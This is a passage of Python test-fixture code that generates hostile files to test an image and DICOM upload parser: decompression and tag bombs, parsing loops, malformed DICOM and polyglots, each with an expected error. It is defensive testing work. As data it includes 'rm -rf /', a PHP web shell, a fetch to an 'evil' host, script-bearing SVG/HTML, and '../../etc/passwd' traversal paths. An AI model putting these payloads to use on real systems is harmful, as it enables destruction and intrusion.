        "64 megapixels, Lab": ("too_large", partial(_tiff_bomb, 8, 3, 8)),
        "64 megapixels, CMYK": ("too_large", partial(_tiff_bomb, 8, 4, 5)),
        "64 megapixels, 32 bits": ("too_large", partial(_tiff_bomb, 32, 1, 1)),
        "64 megapixels, 16-bit RGB": ("too_large", partial(_tiff_bomb, 16, 3, 2)),
        "64 megapixels, 16-bit RGBA": ("too_large", partial(_tiff_bomb, 16, 4, 2)),
        "64 megapixels, 16-bit CMYK": ("too_large", partial(_tiff_bomb, 16, 4, 5)),
    }
    jpegs: dict[str, tuple[str, Make]] = {
        "64 megapixels": ("blank", partial(_jpeg_sized, "jpeg-small", GIGA, GIGA)),
        "64 megapixels, CMYK": ("too_large", partial(_jpeg_sized, "jpeg-cmyk", GIGA, GIGA)),
        "64 megapixels, progressive": ("blank", partial(_scans, 1)),
        "64 megapixels, 100,000 scans": ("damaged_image", partial(_scans, 100_000)),
    }
    webps: dict[str, tuple[str, Make]] = {
        "64 megapixels": ("too_large", partial(_webp_sized, 16383, 3906)),
        "16 megapixels": ("blank", partial(_webp_sized, 4000, 4000)),
        "a canvas of 64 megapixels": ("too_large", partial(_webp_animation, 16384, 3906, 1)),
        "a canvas of 268 megapixels": ("too_large damaged_image", partial(_webp_animation, 16384, 16384, 1)),
        "300 frames": ("multi_frame", partial(_webp_animation, WIDTH, HEIGHT, 300)),
    }
    gifs: dict[str, tuple[str, Make]] = {
        "64 megapixels": ("blank readable", lambda: patched(WHOLE["gif"](), 6, "<HH", 65000, 984)),
        "4 gigapixels": ("too_large", lambda: patched(WHOLE["gif"](), 6, "<HH", 65535, 65535)),
    }
    j2ks: dict[str, tuple[str, Make]] = {
        "64 megapixels": ("blank", partial(_j2k_sized, GIGA, GIGA)),
        "64 megapixels, RGB": ("too_large", partial(_j2k_sized, GIGA, GIGA, 3)),
        "65 megapixels": ("too_large", partial(_j2k_sized, 8064, 8064)),
        "4 gigapixels": ("too_large damaged_image", partial(_j2k_sized, 65535, 65535)),
        "64,000,000 precincts": ("damaged_image", partial(_j2k_precincts, 0)),
    }
    avifs: dict[str, tuple[str, Make]] = {
        "64 megapixels": ("too_large damaged_image", partial(_avif_sized, GIGA, GIGA)),
        "4 gigapixels": ("too_large damaged_image", partial(_avif_sized, 65535, 65535)),
        "a size of nothing": ("too_small damaged_image", partial(_avif_sized, 0, 0)),
        "40 frames": ("multi_frame", _avif_animation),
    }
    bmps: dict[str, tuple[str, Make]] = {
        "64 megapixels, 32 bits": ("damaged_image", partial(bmp, bytes(99), (GIGA, GIGA), 32)),
        "64 megapixels in leaps": ("too_large", partial(bmp, b"\0\2\xff\xff" * 999, (1_000_000, 64), packing=1)),
        "16 megapixels in leaps": ("blank", partial(bmp, b"\0\2\xff\xff" * 999, (250_000, 64), packing=1)),
    }
    for name, rows in {
        "png": pngs,
        "tiff": tiffs,
        "jpeg": jpegs,
        "webp": webps,
        "gif": gifs,
        "bmp": bmps,
        "j2k": j2ks,
        "avif": avifs,
    }.items():
        yield from _items(f"{name}-bomb", f"image.{name}", rows)


def directory(size: int, tags: int = 300, kind: int = 7) -> bytes:
    """A TIFF directory whose tags all take the same bytes for their own: `tags` times `size` once they are read."""
    count = (size - 8) // {3: 2, 5: 8, 7: 1}[kind]
    entries = b"".join(struct.pack("<HHII", (0x9000 + i) % 65536, kind, count, 8) for i in range(tags))
    return (b"II*\0" + struct.pack("<IH", 8, tags) + entries + bytes(4)).ljust(size, b"\1")


def _segments(name: bytes, marker: bytes, payload: bytes) -> bytes:
    """A payload in as many JPEG segments as it takes, each beginning with the name."""
    room = 65533 - len(name)
    parts = [name + payload[i : i + room] for i in range(0, len(payload), room)]
    return b"".join(marker + struct.pack(">H", 2 + len(part)) + part for part in parts)


_exif, _index = partial(_segments, b"Exif\0\0", b"\xff\xe1"), partial(_segments, b"MPF\0", b"\xff\xe2")


def _below(kind: int, pointer: int = 0x8769, count: int = 1) -> bytes:
    """A TIFF that points to a directory with 18 MB in one tag."""
    size = {3: 2, 5: 8}[kind]
    tags: list[Tag] = [*tiff_tags(more=1, at=8), (pointer, 4, count, tiff_start(10))]
    bomb = struct.pack("<HHHII", 1, 0x9000, kind, 18_000_000 // size, 8) + bytes(4)
    if count > 1:  # the pointer is the first of several, so it is not in the tag itself
        bomb = struct.pack("<2I", tiff_start(10) + 8, 0) + bomb
    return tiff(*tags, data=bomb + b"\1" * 18_100_000)


def _tiff_grown(tag: int, kind: int, count: int) -> bytes:
    """A TIFF with one of its tags grown to the whole file."""
    others = [entry for entry in tiff_tags(width=64, height=64, rows=1) if entry[0] != tag]
    return tiff(*others, (tag, kind, count, 8), data=b"\1" * 19_000_000)


def _tag_bombs() -> Iterator[Hostile]:
    hidden = b"II*\0" + struct.pack("<I", 70_000) + bytes(69_992) + directory(9_000_000)[8:]
    many: list[Tag] = [(0x9000 + i, 7, 15_000_000, 8) for i in range(300)]
    chain = b"".join(struct.pack("<HHHIII", 1, 256, 4, 1, 64, 18 * (i + 2)) for i in range(100_000))
    packed, grey = zlib.compress(bytes(113 * 96)), greys().tobytes()
    rows: dict[str, tuple[str, Make]] = {
        "JPEG, in 60 kB": ("damaged_image", lambda: _jpeg_with(_exif(directory(60_000, tags=4000)))),
        "JPEG, in many segments": ("damaged_image", lambda: _jpeg_with(_exif(directory(18_000_000)))),
        "JPEG, tiny segments": ("damaged_image", lambda: _jpeg_with(b"\xff\xe1\0\x10Exif\0\0xxxxxxxx" * 600_000)),
        "JPEG, beyond the first segment": ("damaged_image", lambda: _jpeg_with(_exif(hidden))),
        "JPEG, behind a lone marker": (
            "damaged_image",
            lambda: _jpeg_with(b"\xff\xf0" + _exif(directory(60_000, tags=4000))),
        ),
        "JPEG, behind an end": ("damaged_image", lambda: _jpeg_with(b"\xff\xd9" + _exif(directory(60_000, tags=4000)))),
        "MPO, in 60 kB": ("damaged_image", lambda: _jpeg_with(_index(directory(60_000, tags=4000, kind=3)))),
        "MPO, fractions": ("damaged_image", lambda: _jpeg_with(_index(directory(60_000, tags=4000, kind=5)))),
        "PNG": ("damaged_image", lambda: png(packed, chunk(b"eXIf", directory(18_000_000)))),
        "WebP": (
            "damaged_image",
            lambda: webp(_canvas(WIDTH, HEIGHT, 8), _lossless(), (b"EXIF", directory(18_000_000))),
        ),
        "TIFF": ("damaged_image", lambda: tiff(*tiff_tags(more=300), *many, data=bytes(18_000_000))),
        "TIFF, 60,000 tags": ("damaged_image", lambda: directory(15_000_000, tags=60_000)),
        "TIFF, directory below": ("damaged_image", lambda: _below(3)),
        "TIFF, directory below, fractions": ("damaged_image", lambda: _below(5)),
        "TIFF, GPS": ("damaged_image", lambda: _below(5, pointer=0x8825)),
        "TIFF, interoperability": ("damaged_image", lambda: _below(5, pointer=0xA005)),
        "TIFF, several directories below": ("damaged_image", lambda: _below(5, count=2)),
        "TIFF, 4,000,000 strips": ("damaged_image", lambda: _tiff_grown(273, 4, 4_000_000)),
        "TIFF, 9,000,000 depths": ("damaged_image", lambda: _tiff_grown(258, 3, 9_000_000)),
        "TIFF, 9,000,000 sample formats": ("damaged_image", lambda: _tiff_grown(339, 3, 9_000_000)),
        "TIFF, 2,000,000 resolutions": ("damaged_image", lambda: _tiff_grown(282, 5, 2_000_000)),
        "TIFF, directory again": ("readable", lambda: tiff(*tiff_tags(), data=grey, next_ifd=8)),
        "TIFF, chain of directories": (
            "multi_frame damaged_image",
            lambda: tiff(*tiff_tags(), data=grey + chain, next_ifd=tiff_start(9) + len(grey)),
        ),
    }
    for what, row in rows.items():
        yield from _items("tag-bomb", f"image.{what[:4].strip(',').lower()}", {what: row})


# Loops: little in memory, long to read


def _loops() -> Iterator[Hostile]:
    comment = b"!\xfe" + (b"\xff" + b"x" * 255) * 70_000 + b"\0"
    resources = (b"\xff\xed\xff\xffPhotoshop 3.0\0" + (b"8BIM" + bytes(8)) * 5460)[:65537] * 290
    body, bad, any_code = _rows(greys()), "damaged_image", ""
    rows: dict[str, tuple[str, Make]] = {
        "png/1,500,000 empty chunks": (bad, lambda: png(body, chunk(b"abCd") * 1_500_000)),
        "png/1,500,000 empty chunks behind": (bad, lambda: WHOLE["png"]()[:-12] + chunk(b"abCd") * 1_500_000),
        "png/1,500,000 pieces of nothing": (bad, lambda: png(b"", chunk(b"IDAT") * 1_500_000)),
        "png/1,200,000 texts": (bad, lambda: png(body, chunk(b"tEXt", b"k\0v") * 1_200_000)),
        "jpeg/4,700,000 comments": (bad, lambda: _jpeg_with(b"\xff\xfe\0\2" * 4_700_000)),
        "jpeg/4,700,000 empty tables": (bad, lambda: _jpeg_with(b"\xff\xc4\0\2" * 4_700_000)),
        "jpeg/19,000,000 fill bytes": (bad, lambda: _jpeg_with(b"\xff" * 19_000_000)),
        "jpeg/19,000,000 bytes between segments": (bad, lambda: _jpeg_with(b"\xff\xfe\0\2" + bytes(19_000_000))),
        "jpeg/900,000 pieces of a profile": (bad, lambda: _jpeg_with(b"\xff\xe2\0\x12ICC_PROFILE\0\1\1xx" * 900_000)),
        "jpeg/1,500,000 Photoshop resources": (any_code, lambda: _jpeg_with(resources)),
        "gif/a comment of 18 MB": (bad, lambda: _gif_with(comment)),
        "gif/a comment of 18 MB behind": ("readable", lambda: _gif_with(after=comment)),
        "gif/3,000,000 comments": (bad, lambda: _gif_with(b"!\xfe\1x\0" * 3_000_000)),
        "gif/6,000,000 empty extensions": (any_code, lambda: _gif_with(after=b"!\xff\0" * 6_000_000)),
        "gif/9,000,000 tiny pieces": (bad, lambda: WHOLE["gif"]()[:-2] + b"\1\0" * 9_000_000 + b"\0;"),
        "bmp/9,500,000 runs": (bad, lambda: bmp(b"\1\5" * 9_500_000, (4000, 4000), packing=1)),
        "bmp/4,900,000 short lines": ("blank", lambda: bmp(b"\1\5\0\0" * 4_900_000, (4000, 4000), packing=1)),
        "webp/2,400,000 unknown chunks": ("readable", lambda: WHOLE["webp-lossless"]() + b"abcd\0\0\0\0" * 2_400_000),
        "webp/190,000 frames of nothing": (
            "damaged_image multi_frame",
            lambda: webp(_canvas(WIDTH, HEIGHT, 2), (b"ANIM", bytes(6)), *[(b"ANMF", bytes(90))] * 190_000),
        ),
    }
    for name, row in rows.items():
        kind, _, what = name.partition("/")
        yield from _items(f"{kind}-loop", f"image.{kind}", {what: row})


# DICOM


def _lut(vr: str, descriptor: bytes, data: bytes) -> tuple[str, bytes]:
    item = element(0x00283002, "US", descriptor) + element(0x00283006, vr, data)
    return "SQ", b"\xfe\xff\0\xe0" + struct.pack("<I", len(item)) + item


def _wrong_tags() -> dict[str, Elements]:
    tags = {"Modality": MODALITY, "PhotometricInterpretation": SPACE, "SamplesPerPixel": SAMPLES, "Rows": ROWS}
    tags |= {"Columns": COLUMNS, "BitsAllocated": ALLOCATED, "BitsStored": STORED, "HighBit": HIGH}
    tags |= {"PixelRepresentation": SIGNED}
    wrong: dict[str, Elements] = {}
    values: dict[str, tuple[str, bytes] | None] = {"left out": None, "empty": ("US", b""), "a name": ("PN", SECRET)}
    values |= {
        "not a number": ("FD", struct.pack("<d", np.nan)),
        "several": ("US", b"`\0p\0\x08\0"),
        "a sequence": ("SQ", b""),
    }
    wrong |= {f"{name} {what}": {tag: value} for (name, tag), (what, value) in product(tags.items(), values.items())}
    numbers = (0, 1, 2, 7, 12, 16, 17, 24, 32, 64, 255, 32768, 65535)
    wrong |= {f"{name} {n}": {tags[name]: us(n)} for name, n in product(list(tags)[2:], numbers)}
    negative = product(("Rows", "BitsAllocated", "SamplesPerPixel"), (-1, -32768))
    wrong |= {f"{name} {n}": {tags[name]: ("SS", struct.pack("<h", n))} for name, n in negative}
    wrong["16 bits, 24 stored"] = {ALLOCATED: us(16), STORED: us(24), HIGH: us(23)}
    for frames in (b"0", b"-1", b"2", b"2147483647", b"9" * 20, b"1e9", b"nan", b"1\\2", b"x"):
        wrong[f"NumberOfFrames {frames.decode()}"] = {0x00280008: text(frames, "IS")}
    pairs = [(b"0", b"0"), (b"nan", b"nan"), (b"inf", b"inf"), (b"-inf", b"1"), (b"1e308", b"1e308"), (b"1", b"1e-320")]
    pairs += [(b"1", b"-9"), (b"x", b"y"), (b"1\\2\\3", b"1"), (b"9" * 16, b"9" * 400), (b"1", b"nan"), (b"", b"")]
    for one, other in pairs:
        wrong[f"a window of {one.decode()} and {other.decode()[:16]}"] = window(one, other)
        wrong[f"a slope of {one.decode()}, intercept of {other.decode()[:16]}"] = {
            SLOPE: text(one),
            INTERCEPT: text(other),
        }
    tables = {
        "without data": _lut("OW", b"\0\1\0\0\x10\0", b""),
        "shorter than it says": _lut("OW", b"\0\x10\0\0\x10\0", bytes(16)),
        "of no bits": _lut("OW", b"\0\1\0\0\0\0", bytes(512)),
        "of 255 bits": _lut("OW", b"\0\1\0\0\xff\0", bytes(512)),
        "with two numbers for three": _lut("OW", b"\0\1\0\0", bytes(512)),
        "of text": _lut("LO", SECRET, b"no number"),
        "of odd length": _lut("OW", b"\0\1\0\0\x10\0", bytes(511)),
        "of one entry": _lut("US", b"\1\0\0\0\x10\0", bytes(2)),
        "from 65535 on": _lut("OW", b"\2\0\xff\xff\x10\0", b"\0\0\xff\xff"),
        "of bytes": ("OB", bytes(64)),
        "of 4 MB": _lut("OW", b"\0\0\0\0\x10\0", bytes(4_000_000)),
    }
    for (name, tag), (what, table) in product({"VOI": VOI, "modality": MODALITY_LUT}.items(), tables.items()):
        wrong[f"a {name} table {what}"] = {tag: table}
    return wrong


def _dicom_tags() -> Iterator[Hostile]:
    certain: dict[str, tuple[str, Elements]] = {
        "an unknown character set": ("readable", {0x00080005: ("CS", b"ISO_IR 666")}),
        "a character set of bytes": ("readable", {0x00080005: ("CS", b"\xff\xfe\\\\..")}),
        "a character set that is a path": ("readable", {0x00080005: ("CS", b"../../etc/passwd")}),
        "a name of bytes": ("readable", {0x00100010: ("PN", b"\xff\x1b$B^\0" * 99)}),
        "an unknown representation": ("readable", {0x00280030: ("ZZ", b"12")}),
        "a colour palette": ("unsupported_dicom", {SPACE: text(b"PALETTE COLOR", "CS")}),
        "a colour space of bytes": ("unsupported_dicom", {SPACE: ("CS", b"\xff" * 16)}),
        "a CT's modality": ("not_a_radiograph", {MODALITY: ("CS", b"CT")}),
        "a modality with a name in it": ("not_a_radiograph", {MODALITY: ("LO", SECRET)}),
        "two frames": ("multi_frame", {0x00280008: text(b"2", "IS")}),
    }
    rows = {what: (expect, partial(dicom, greys().tobytes(), changes)) for what, (expect, changes) in certain.items()}
    yield from _items("dcm-tags", "image.dcm", rows)
    for what, changes in _wrong_tags().items():
        yield Hostile(f"dcm-tags/{what}", "image.dcm", partial(dicom, greys().tobytes(), changes))


def _deflated(body: bytes) -> bytes:
    """A DICOM in which all behind its header is this deflate stream."""
    return dicom(syntax=DEFLATED, tail=b"")[: 132 + 12 + 8 + len(DEFLATED)] + body


def _dicom_structures() -> Iterator[Hostile]:
    pixels, deep = greys().tobytes(), element(OTHER, "SQ", length=UNKNOWN) + OPEN_ITEM
    tables, closed = element(VOI, "SQ", length=UNKNOWN) + OPEN_ITEM, END_OF_ITEM + END_OF_SEQUENCE
    whole, header = dicom(pixels), 132 + 12 + 8 + 20
    raw, tail = partial(dicom, pixels), partial(dicom, b"")
    bad, unread, any_code = "damaged_image", "unsupported_dicom", ""
    rows: dict[str, tuple[str, Make]] = {
        "no pixel data": ("not_a_radiograph", lambda: tail(tail=b"")),
        "pixel data of no bytes": (bad, tail),
        "pixel data a byte short": (bad, lambda: dicom(pixels[:-1])),
        "pixel data half as long": (bad, lambda: dicom(pixels[:5376])),
        "pixel data twice as long": (any_code, lambda: dicom(pixels * 2)),
        "pixel data of 4 GB": (any_code, lambda: tail(tail=element(PIXELS, "OW", pixels, length=0xFFFFFFFE))),
        "pixel data of unknown length": (any_code, lambda: tail(tail=element(PIXELS, "OW", pixels, length=UNKNOWN))),
        "pixel data of text": (any_code, lambda: tail(tail=element(PIXELS, "LO", pixels))),
        "pixel data of floats": ("not_a_radiograph", lambda: tail(tail=element(0x7FE00008, "OF", pixels * 4))),
        "two pixel data": (any_code, lambda: raw(raw=element(PIXELS, "OB", pixels[:100]))),
        "sequences 50 deep": ("readable", lambda: raw(raw=deep * 50 + closed * 50)),
        "sequences 1000 deep": (bad, lambda: raw(raw=deep * 1000 + closed * 1000)),
        "sequences 900,000 deep": (bad, lambda: raw(raw=deep * 900_000)),
        "tables 1000 deep": (bad, lambda: raw(raw=tables * 1000 + closed * 1000)),
        "a sequence without an end": (any_code, lambda: raw(raw=deep)),
        "a sequence longer than the file": (any_code, lambda: raw(raw=element(OTHER, "SQ", length=0x7FFFFFFF))),
        "an element longer than the file": (any_code, lambda: raw(raw=element(OTHER, "OB", length=0x7FFFFFFF))),
        "an unknown element without an end": (any_code, lambda: raw(raw=element(OTHER, "UN", length=UNKNOWN))),
        "a text of unknown length": (any_code, lambda: raw(raw=element(OTHER, "UT", length=UNKNOWN))),
        "elements out of order": ("readable", lambda: raw(raw=element(0x00100020, "LO", SECRET))),
        "every element twice": ("readable", lambda: raw(raw=whole[header : -len(pixels) - 12])),
        "no elements": (any_code, lambda: whole[:132]),
        "a header alone": (any_code, lambda: whole[:header]),
        "a header of 4 GB": (any_code, lambda: patched(whole, 140, "<I", 0xFFFFFFFF)),
        "a header of no bytes": (any_code, lambda: patched(whole, 140, "<I", 0)),
        "little endian in big": (any_code, lambda: dicom(syntax=BIG, tail=b"")[:header] + whole[header:]),
        "explicit in implicit": (any_code, lambda: dicom(syntax=IMPLICIT, tail=b"")[: header - 2] + whole[header:]),
        "deflated": ("readable", lambda: _deflated(zlib.compress(whole[header:], wbits=-15))),
        "a deflate bomb": (bad, lambda: _deflated(zeros(1 << 32)[2:-4])),
        "an unknown transfer syntax": (unread, lambda: raw(syntax="1.2.840.10008.1.2.4.999")),
        "a path for a transfer syntax": (unread, lambda: raw(syntax="../../etc/passwd")),
        "a transfer syntax of 60,000 characters": (unread, lambda: raw(syntax="1." * 30_000)),
        "MPEG": (unread, lambda: raw(syntax="1.2.840.10008.1.2.4.100")),
    }
    codecs = {
        "RLE": RLE,
        "JPEG": JPEG,
        "JPEG 2000": J2K,
        "JPEG-LS": JLS,
        "JPEG lossless": LOSSLESS,
        "12-bit JPEG": JPEG_12,
    }
    for name, syntax in codecs.items():
        rows[f"{name} of nothing"] = bad, partial(dicom, b"", syntax=syntax)
        rows[f"{name} of zeros"] = bad, partial(dicom, bytes(999), syntax=syntax)
        rows[f"{name} of text"] = bad, partial(dicom, SECRET * 9, syntax=syntax)
        rows[f"{name} in no fragments"] = bad, partial(dicom, syntax=syntax, tail=element(PIXELS, "OB", pixels))
    yield from _items("dcm-structure", "image.dcm", rows)


def _dicom_bombs() -> Iterator[Hostile]:
    area, pixels, items = GIGA * GIGA, greys().tobytes(), b"\xfe\xff\0\xe0\0\0\0\0" * 2_000_000
    square: dict[str, Any] = {"size": (GIGA, GIGA)}
    shown = window(b"100", b"300") | {SLOPE: text(b"0.5"), INTERCEPT: text(b"1")}
    bad, large, blank = "damaged_image", "too_large", "blank"
    jpeg = WHOLE["jpeg-small"]

    def packed(*segments: bytes, changes: Elements | None = None, **options: Any) -> bytes:
        return dicom(rle(*segments), changes, syntax=RLE, **options)

    def listed(tag: int, **options: Any) -> bytes:
        return dicom(pixels, raw=element(tag, "SQ", items + END_OF_SEQUENCE, **options))

    rows: dict[str, tuple[str, Make]] = {
        "RLE of 1.2 GB for a small image": (blank, lambda: packed(b"\x81\0" * 9_500_000)),
        "RLE of 9,500,000 single bytes": (blank, lambda: packed(b"\0\1" * 9_500_000)),
        "RLE of 19,000,000 times nothing": (bad, lambda: packed(b"\x80" * 19_000_000)),
        "RLE of 15 segments": (bad, lambda: packed(*[_run(100)] * 15)),
        "RLE of 2**32 segments": (bad, lambda: dicom(patched(rle(_run(9)), 0, "<I", UNKNOWN), syntax=RLE)),
        "RLE beyond the end": (bad, lambda: dicom(patched(rle(_run(9)), 4, "<I", UNKNOWN), syntax=RLE)),
        "RLE of 64 megapixels, shown": (
            blank,
            lambda: packed(_run(area), _run(area), changes=shown, bits=16, **square),
        ),
        "RLE of 64 megapixels, RGB": (large, lambda: packed(*[_run(area)] * 3, samples=3, **square)),
        "RLE of 64 megapixels, 16-bit RGB": (large, lambda: packed(*[_run(area)] * 6, samples=3, bits=16, **square)),
        "RLE of 64 megapixels, 32 bits": (large, lambda: packed(*[_run(area)] * 4, bits=32, **square)),
        "RLE of 64 megapixels, 64 bits": (large, lambda: packed(*[_run(area)] * 8, bits=64, **square)),
        "RLE of 16 megapixels, 32 bits, shown": (
            blank,
            lambda: packed(*[_run(area // 4)] * 4, changes=shown, bits=32, size=(4000, 4000)),
        ),
        "1 bit, 64 megapixels": (blank, lambda: dicom(bytes(area // 8), bits=1, **square)),
        "JPEG of 64 megapixels": (blank, lambda: dicom(_jpeg_sized("jpeg-small", GIGA, GIGA), syntax=JPEG, **square)),
        "JPEG of 100,000 scans": (large, lambda: dicom(_scans(100_000), syntax=JPEG, samples=3, **square)),
        "JPEG of fill bytes": (bad, lambda: dicom(_jpeg_with(b"\xff" * 19_000_000), syntax=JPEG)),
        "JPEG with tags": (bad, lambda: dicom(_jpeg_with(_exif(directory(60_000, tags=4000))), syntax=JPEG)),
        "JPEG with an index": (bad, lambda: dicom(_jpeg_with(_index(directory(60_000, 4000, 5))), syntax=JPEG)),
        "JPEG in 500,000 fragments": (bad, lambda: dicom(syntax=JPEG, tail=fragments(jpeg(), *[b""] * 500_000))),
        "JPEG with 4,500,000 offsets": (
            "",
            lambda: dicom(syntax=JPEG, tail=fragments(jpeg(), offsets=bytes(18_000_000))),
        ),
        "JPEG 2000 of 64 megapixels": (blank, lambda: dicom(_j2k_sized(GIGA, GIGA), syntax=J2K, **square)),
        "JPEG 2000 of 64 megapixels, RGB": (
            large,
            lambda: dicom(_j2k_sized(GIGA, GIGA, 3), syntax=J2K, samples=3, **square),
        ),
        "JPEG 2000 of 64,000,000 precincts": (bad, lambda: dicom(_j2k_precincts(0), syntax=J2K, **square)),
        "JPEG 2000 of 4,000,000 precincts": (bad, lambda: dicom(_j2k_precincts(2), syntax=J2K, **square)),
        "JPEG 2000 larger than it says": (bad, lambda: dicom(_j2k_sized(GIGA, GIGA), syntax=J2K)),
        "JPEG-LS of 64 megapixels": (bad, lambda: dicom(_jls_sized(GIGA, GIGA), syntax=JLS, **square)),
        "JPEG-LS larger than it says": (bad, lambda: dicom(_jls_sized(GIGA, GIGA), syntax=JLS)),
        "JPEG lossless of 64 megapixels": (
            "blank damaged_image",
            lambda: dicom(_lossless_sized(GIGA, GIGA), syntax=LOSSLESS, **square),
        ),
        "2,400,000 empty elements": (bad, lambda: dicom(pixels, raw=element(0x00204000, "LO") * 2_400_000)),
        "1,500,000 elements in its header": (bad, lambda: dicom(pixels, meta=element(0x00020002, "UN") * 1_500_000)),
        "2,000,000 empty items": (bad, lambda: listed(OTHER, length=UNKNOWN)),
        "2,000,000 empty tables": (bad, lambda: listed(VOI, length=UNKNOWN)),
        "2,000,000 empty tables, length known": ("readable", lambda: listed(VOI)),
        "2,000,000 empty modality tables": ("readable", lambda: listed(MODALITY_LUT)),
        "19 MB of an unknown element": (
            "damaged_image",
            lambda: dicom(raw=element(OTHER, "UN", bytes(19_000_000), length=UNKNOWN)),
        ),
        "9,000,000 windows": ("readable", lambda: dicom(pixels, {0x00281050: ("UC", b"1\\" * 9_000_000), **_width})),
        "9,000,000 slopes": (
            "readable",
            lambda: dicom(pixels, {SLOPE: ("UC", b"1\\" * 9_000_000), INTERCEPT: text(b"1")}),
        ),
        "9,000,000 rows": (bad, lambda: dicom(pixels, {ROWS: ("OW", b"`\0" * 9_000_000)})),
    }
    _width: Elements = {0x00281051: text(b"1")}
    yield from _items("dcm-bomb", "image.dcm", rows)


# Two things in one, and other things than pictures

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="512" height="512"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body><script>fetch('//evil')</script></body></html>"
PDF = b"%PDF-1.7\n1 0 obj<</Type/XObject/Subtype/Image/Filter/DCTDecode/Length 9>>stream\n"
SHELL = b"#!/bin/sh\nrm -rf /\n"
EXE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + bytes(44) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0"
ELF = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 2, 62, 1)
MEDIA = b"\0\0\0\x18ftyp"


def archive(name: str = "image.png", content: bytes = b"image") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        target.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _comment(data: bytes) -> bytes:
    return b"\xff\xfe" + struct.pack(">H", 2 + len(data)) + data


def _before(start: bytes) -> bytes:
    """A DICOM with something else in the 128 bytes that are free."""
    return start[:128].ljust(128, b"\n") + dicom(greys().tobytes())[128:]


def _polyglots() -> Iterator[Hostile]:
    jpeg, picture, gif, ok = WHOLE["jpeg-small"], WHOLE["png"], WHOLE["gif"], "readable"
    start = partial(tiff, *tiff_tags(at=600))
    rows: dict[str, tuple[str, str, Make]] = {
        "GIF and JavaScript": ("", "image.gif", lambda: b"GIF89a/*" + gif()[8:] + b"*/=1;alert(1)"),
        "GIF and PHP": (ok, "image.php", lambda: gif() + b"<?php system($_GET['c']); ?>"),
        "PNG and ZIP": (ok, "image.zip", lambda: picture() + archive()),
        "PNG and a script": (ok, "image.png.sh", lambda: picture() + SHELL),
        "PNG with HTML": (ok, "image.html", lambda: png(_rows(greys()), chunk(b"tEXt", b"Comment\0" + HTML))),
        "JPEG with HTML": (ok, "image.html", lambda: _jpeg_with(_comment(HTML))),
        "JPEG and ZIP": (ok, "image.jar", lambda: jpeg() + archive("META-INF/MANIFEST.MF")),
        "JPEG and RAR": (ok, "image.rar", lambda: jpeg() + b"Rar!\x1a\7\1\0" + bytes(99)),
        "JPEG with PDF": (ok, "image.pdf", lambda: _jpeg_with(_comment(PDF)) + b"\nendstream endobj\n%%EOF"),
        "PDF with JPEG": ("not_an_image", "image.pdf", lambda: PDF + jpeg() + b"\nendstream endobj\n%%EOF"),
        "BMP and JavaScript": ("", "image.js", lambda: b"BM=0;/*" + WHOLE["bmp"]()[7:] + b"*/"),
        "TIFF and a program": (ok, "image.exe", lambda: WHOLE["tiff"]() + EXE),
        "WebP and a program": (ok, "image.exe", lambda: WHOLE["webp"]() + ELF),
        "DICOM and ZIP": ("", "image.zip", lambda: dicom(greys().tobytes()) + archive()),
        "TIFF before DICOM": (ok, "image.tif", lambda: _before(start())),
        "program before DICOM": (ok, "image.exe", lambda: _before(EXE)),
        "script before DICOM": (ok, "image.sh", lambda: _before(SHELL)),
        "HTML before DICOM": (ok, "image.html", lambda: _before(HTML)),
        "JPEG before DICOM": (ok, "image.jpg", lambda: _before(jpeg())),
        "PNG called JPEG": (ok, "image.jpg", picture),
        "DICOM called PNG": (ok, "image.png", partial(dicom, greys().tobytes())),
        "JPEG called DICOM": (ok, "image.dcm", jpeg),
        "JPEG twice": (ok, "image.jpg", lambda: jpeg() * 2),
        "PNG and JPEG": (ok, "image.png", lambda: picture() + jpeg()),
    }
    for what, (expect, filename, make) in rows.items():
        yield from _items("polyglot", filename, {what: (expect, make)})


def _npy(array: Array) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def _wrong() -> Iterator[Hostile]:
    jpeg, grey = WHOLE["jpeg-small"], greys
    files: dict[str, Make] = {
        "svg": lambda: SVG,
        "html": lambda: HTML,
        "zip": archive,
        "docx": lambda: archive("word/document.xml", b"<w:document/>"),
        "zip.png": lambda: archive("../../etc/passwd", b"root::0:0::/:/bin/sh"),
        "bomb.zip": lambda: archive("image", bytes(50_000_000)),
        "pdf": lambda: PDF + b"endstream endobj\n%%EOF",
        "exe": lambda: EXE,
        "so": lambda: ELF,
        "sh": lambda: SHELL,
        "gz": lambda: gzip.compress(jpeg(), mtime=0),
        "bomb.gz": lambda: b"\x1f\x8b\x08" + bytes(5) + b"\0\3" + zeros(1 << 30)[2:-4] + bytes(8),
        "dcm.gz": lambda: gzip.compress(dicom(grey().tobytes()), mtime=0),
        "mp4": lambda: MEDIA + b"isom\0\0\2\0isomiso2" + bytes(999),
        "jxl": lambda: b"\xff\x0a" + bytes(999),
        "psd": lambda: b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 1, 96, 112, 8, 1) + bytes(999),
        "ico": lambda: encode(grey(), "ICO"),
        "cur": lambda: b"\0\0\2\0" + encode(grey(), "ICO")[4:],
        "icns": lambda: b"icns" + struct.pack(">I", 8 + 8 + len(WHOLE["png"]())) + b"ic07" + bytes(4) + WHOLE["png"](),
        "eps": lambda: encode(grey(), "EPS"),
        "ps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 96 96\n(/etc/passwd) (r) file quit\n%%EOF",
        "wmf": lambda: b"\xd7\xcd\xc6\x9a" + bytes(999),
        "ppm": lambda: encode(grey(), "PPM"),
        "tga": lambda: encode(grey(), "TGA"),
        "pcx": lambda: encode(grey(), "PCX"),
        "dds": lambda: encode(colour(), "DDS"),
        "sgi": lambda: encode(grey(), "SGI"),
        "fits": lambda: b"SIMPLE  =                    T".ljust(2880),
        "fli": lambda: bytes(4) + b"\x11\xaf" + bytes(999),
        "xpm": lambda: b'/* XPM */ static char *image[] = {"64 64 1 1", "a c #000000"};',
        "mhd": lambda: b"ObjectType = Image\nElementDataFile = /etc/passwd\n",
        "nii": lambda: struct.pack("<I", 348) + bytes(340) + b"n+1\0" + bytes(999),
        "txt": lambda: b"The lungs are clear.\n",
